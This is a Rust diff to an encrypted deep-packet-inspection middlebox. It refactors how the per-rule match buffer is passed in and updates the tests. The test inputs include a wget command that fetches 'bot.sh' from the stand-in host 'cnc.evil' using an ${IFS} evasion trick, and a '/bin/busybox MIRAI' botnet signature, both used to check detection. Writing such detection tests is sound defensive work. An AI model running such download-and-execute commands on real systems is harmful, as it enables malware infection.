@@ -194,8 +194,6 @@ impl DpiSession {
 /// traffic token streams. It never sees plaintext.
 pub struct EncryptedDpi {
     session: Arc<DpiSession>,
-    /// Per-rule first-match buffer reused by every inspection.
-    scratch: Vec<Option<usize>>,
     bus: Option<EvidenceBus>,
     /// Inspection counters.
     pub stats: DpiStats,
@@ -215,7 +213,6 @@ impl EncryptedDpi {
     pub fn new(session: Arc<DpiSession>) -> Self {
         EncryptedDpi {
             session,
-            scratch: Vec::new(),
             bus: None,
             stats: DpiStats::default(),
         }
@@ -280,12 +277,17 @@ impl EncryptedDpi {
     /// Inspects a traffic token stream (produced by the sending endpoint);
     /// reports matches as evidence attributed to `device`.
     ///
-    /// The match scratch buffer is reused across calls, so a stream with
-    /// no match allocates nothing.
-    pub fn inspect(&mut self, device: &str, tokens: &[Token], now: SimTime) -> Vec<DpiMatch> {
-        let mut scratch = std::mem::take(&mut self.scratch);
-        let out = self.match_into(tokens, &mut scratch);
-        self.scratch = scratch;
+    /// `firsts` is the caller's per-rule match buffer, borrowed like the
+    /// token stream: one buffer serves every middlebox its owner scans
+    /// through, so a stream with no match allocates nothing.
+    pub fn inspect(
+        &mut self,
+        device: &str,
+        tokens: &[Token],
+        firsts: &mut Vec<Option<usize>>,
+        now: SimTime,
+    ) -> Vec<DpiMatch> {
+        let out = self.match_into(tokens, firsts);
         self.record(device, &out, now);
         out
     }
@@ -299,9 +301,10 @@ impl EncryptedDpi {
         streams: &[Vec<Token>],
         now: SimTime,
     ) -> Vec<Vec<DpiMatch>> {
+        let mut firsts = Vec::new();
         streams
             .iter()
-            .map(|tokens| self.inspect(device, tokens, now))
+            .map(|tokens| self.inspect(device, tokens, &mut firsts, now))
             .collect()
     }
 }
@@ -440,9 +443,12 @@ mod tests {
         let dirty = endpoint.tokenize(b"sh -c 'wget${IFS}http://cnc.evil/bot.sh' &");
         let clean = endpoint.tokenize(b"POST /telemetry?t=72.3 HTTP/1.1");
 
-        let hits = middlebox.inspect("cam", &dirty, SimTime::ZERO);
+        let mut firsts = Vec::new();
+        let hits = middlebox.inspect("cam", &dirty, &mut firsts, SimTime::ZERO);
         assert_eq!(hits.len(), 1);
-        assert!(middlebox.inspect("cam", &clean, SimTime::ZERO).is_empty());
+        assert!(middlebox
+            .inspect("cam", &clean, &mut firsts, SimTime::ZERO)
+            .is_empty());
         assert_eq!(
             middlebox.stats,
             DpiStats {
@@ -463,10 +469,11 @@ mod tests {
         let plain = PlaintextDpi::new(rules());
         let endpoint = Tokenizer::new(b"s").unwrap();
         let mut enc = middlebox(&endpoint);
+        let mut firsts = Vec::new();
         for payload in payloads {
             let p_hit = !plain.inspect(payload).is_empty();
             let e_hit = !enc
-                .inspect("d", &endpoint.tokenize(payload), SimTime::ZERO)
+                .inspect("d", &endpoint.tokenize(payload), &mut firsts, SimTime::ZERO)
                 .is_empty();
             assert_eq!(p_hit, e_hit, "divergence on {payload:?}");
         }
@@ -503,9 +510,10 @@ mod tests {
         let streams: Vec<Vec<Token>> = payloads.iter().map(|p| endpoint.tokenize(p)).collect();
 
         let mut single = middlebox(&endpoint);
+        let mut firsts = Vec::new();
         let expected: Vec<Vec<DpiMatch>> = streams
             .iter()
-            .map(|t| single.inspect("d", t, SimTime::ZERO))
+            .map(|t| single.inspect("d", t, &mut firsts, SimTime::ZERO))
             .collect();
 
         let mut batched = middlebox(&endpoint);
@@ -525,7 +533,9 @@ mod tests {
         let mut middlebox = middlebox(&Tokenizer::new(b"session A").unwrap());
         let other_endpoint = Tokenizer::new(b"session B").unwrap();
         let tokens = other_endpoint.tokenize(b"wget${IFS}http://cnc.evil/bot.sh");
-        assert!(middlebox.inspect("cam", &tokens, SimTime::ZERO).is_empty());
+        assert!(middlebox
+            .inspect("cam", &tokens, &mut Vec::new(), SimTime::ZERO)
+            .is_empty());
     }
 
     #[test]
@@ -536,6 +546,7 @@ mod tests {
         middlebox.inspect(
             "cam",
             &endpoint.tokenize(b"/bin/busybox MIRAI"),
+            &mut Vec::new(),
             SimTime::ZERO,
         );
         let mut store = EvidenceStore::new();
